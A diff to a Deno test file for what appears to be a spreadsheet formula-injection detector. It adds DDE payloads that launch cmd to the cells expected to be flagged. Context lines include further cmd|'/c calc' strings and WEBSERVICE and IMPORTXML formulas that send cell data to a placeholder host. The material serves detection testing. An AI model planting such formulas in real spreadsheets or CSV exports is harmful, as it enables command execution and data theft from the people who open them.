@@ -26,10 +26,12 @@ Deno.test("readTable: formulas that start a program", () => {
     "\t=cmd|'/c calc'!A0",
     "=excel|sheet!R1C1",
     "+thespanishinquisition(cmd|'/c calc.exe'!A",
+    '=DDE("cmd";"/C calc";"x")',
+    '=IF(1;"";1)+dde("cmd";"/C calc";"x")',
   ];
   for (const cell of cells) {
     for (const row of [cell, `Ann,3,${cell}`, `Ann;${cell};3`, `a\r\nb\t${cell}`]) {
-      assertEquals(read(row).split(" ")[0], "dde", row);
+      assertEquals(read(row), "dde", row);
     }
   }
 });
@@ -39,7 +41,6 @@ Deno.test("readTable: formulas that fetch, call or link", () => {
     ['=WEBSERVICE("http://a.example/?x="&A1)', "calls", ["http://a.example/?x="]],
     ['=IMPORTXML(CONCAT("http://a.example/",A1),"//a")', "calls", ["http://a.example/"]],
     ['=IF(1,IMPORTDATA("http://a.example/x"))', "calls", ["http://a.example/x"]],
-    ['=DDE("cmd";"/C calc";"x")', "calls", []],
     ['=HYPERLINK("https://a.example/","Open")', "links", ["https://a.example/"]],
     ['"=HYPERLINK(""https://a.example/"",""Open"")"', "links", ["https://a.example/"]],
     ['@HYPERLINK("\\\\a.example\\x")', "links", ["\\\\a.example\\x"]],
